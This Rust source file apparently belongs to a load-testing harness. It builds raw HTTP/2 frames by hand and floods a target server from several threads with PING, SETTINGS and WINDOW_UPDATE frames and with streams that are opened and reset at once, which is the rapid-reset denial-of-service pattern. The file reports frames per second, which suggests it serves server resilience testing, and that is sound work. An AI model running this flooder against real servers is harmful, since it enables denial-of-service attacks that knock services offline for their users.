//! The client that floods a server.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

#[derive(Clone, Copy, PartialEq)]
pub enum Flood {
    Nothing,
    Pings,
    Settings,
    WindowUpdates,
    /// Streams that are reset at once; the server closes the connection after some, and the client
    /// opens another one.
    Resets,
    /// Streams that stand in the same queue by the time at which they are reset.
    QueuedResets,
}

/// How many connections it has.
const CONNECTIONS: usize = 4;

/// How many frames it writes at once.
const BATCH: usize = 1_000;

/// How many streams of a connection wait before they are reset: as many as hyper allows at once if
/// nothing else is said.
const STREAMS: usize = 200;

/// By then they wait.
const PAUSE: Duration = Duration::from_millis(2);

impl Flood {
    pub const ALL: [Self; 6] = [
        Self::Nothing,
        Self::Pings,
        Self::Settings,
        Self::WindowUpdates,
        Self::Resets,
        Self::QueuedResets,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            Self::Nothing => "nothing",
            Self::Pings => "pings",
            Self::Settings => "settings",
            Self::WindowUpdates => "window updates",
            Self::Resets => "resets",
            Self::QueuedResets => "resets in the queue",
        }
    }

    fn frames(self) -> Vec<u8> {
        let mut frames = Vec::new();
        for nth in 0..BATCH as u32 {
            let stream = 2 * nth + 1;
            match self {
                Self::Nothing | Self::QueuedResets => {}
                Self::Pings => push(&mut frames, 6, 0, 0, &[0; 8]),
                Self::Settings => push(&mut frames, 4, 0, 0, &[]),
                Self::WindowUpdates => push(&mut frames, 8, 0, 0, &1_u32.to_be_bytes()),
                Self::Resets => {
                    ask(&mut frames, stream, b"/free");
                    reset(&mut frames, stream);
                }
            }
        }
        frames
    }
}

/// GET, by the static table of HPACK.
fn ask(frames: &mut Vec<u8>, stream: u32, path: &[u8; 5]) {
    let block = [b"\x82\x86\x04\x05", path.as_slice(), b"\x01\x04test"].concat();
    push(frames, 1, 5, stream, &block);
}

fn reset(frames: &mut Vec<u8>, stream: u32) {
    push(frames, 3, 0, stream, &8_u32.to_be_bytes());
}

fn push(frames: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    frames.extend_from_slice(&[0, 0, payload.len() as u8, kind, flags]);
    frames.extend_from_slice(&stream.to_be_bytes());
    frames.extend_from_slice(payload);
}

/// Connections that flood a server until they are stopped.
pub struct Flooding {
    start: Instant,
    over: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

impl Flooding {
    pub fn start(flood: Flood, server: SocketAddr) -> Self {
        let (over, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let connections = if flood == Flood::Nothing { 0 } else { CONNECTIONS };
        let connection = |_| {
            let (over, sent) = (Arc::clone(&over), Arc::clone(&sent));
            thread::spawn(move || {
                while !over.load(Ordering::Relaxed) {
                    connect_and_flood(flood, server, &over, &sent);
                }
            })
        };
        let threads = (0..connections).map(connection).collect();
        Self { start: Instant::now(), over, sent, threads }
    }

    /// Returns how many frames were sent in a second.
    pub fn stop(self) -> f64 {
        let seconds = self.start.elapsed().as_secs_f64();
        self.over.store(true, Ordering::Relaxed);
        for thread in self.threads {
            thread.join().expect("a connection does not panic");
        }
        self.sent.load(Ordering::Relaxed) as f64 / seconds
    }
}

/// Until the server closes the connection, or all is over.
fn connect_and_flood(flood: Flood, server: SocketAddr, over: &AtomicBool, sent: &AtomicU64) {
    let Ok(mut connection) = TcpStream::connect(server) else { return };
    let mut read = connection.try_clone().expect("a connection has another handle");
    for connection in [&connection, &read] {
        let soon = Some(Duration::from_millis(100));
        connection.set_read_timeout(soon).expect("not zero");
        connection.set_write_timeout(soon).expect("not zero");
    }
    // What the server answers has to be read, or it stops to read as well.
    let reader = thread::spawn(move || {
        let mut buffer = vec![0; 1 << 16];
        while let Ok(1..) = read.read(&mut buffer) {}
    });
    let frames = flood.frames();
    let _ = connection.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0");
    if flood == Flood::QueuedResets {
        let _ = wait_and_reset(&mut connection, over, sent);
    }
    while flood != Flood::QueuedResets
        && !over.load(Ordering::Relaxed)
        && connection.write_all(&frames).is_ok()
    {
        sent.fetch_add(BATCH as u64, Ordering::Relaxed);
        if flood == Flood::Resets {
            // Streams have to be new.
            break;
        }
    }
    let _ = connection.shutdown(std::net::Shutdown::Both);
    reader.join().expect("a reader does not panic");
}

/// Lets streams wait in the queue, resets them, and goes on with others.
fn wait_and_reset(
    connection: &mut TcpStream,
    over: &AtomicBool,
    sent: &AtomicU64,
) -> std::io::Result<()> {
    let mut streams = (1_u32..1 << 31).step_by(2);
    while !over.load(Ordering::Relaxed) {
        let (mut asked, mut left) = (Vec::new(), Vec::new());
        for stream in streams.by_ref().take(STREAMS) {
            ask(&mut asked, stream, b"/same");
            reset(&mut left, stream);
        }
        connection.write_all(&asked)?;
        thread::sleep(PAUSE);
        connection.write_all(&left)?;
        sent.fetch_add(2 * STREAMS as u64, Ordering::Relaxed);
    }
    Ok(())
}
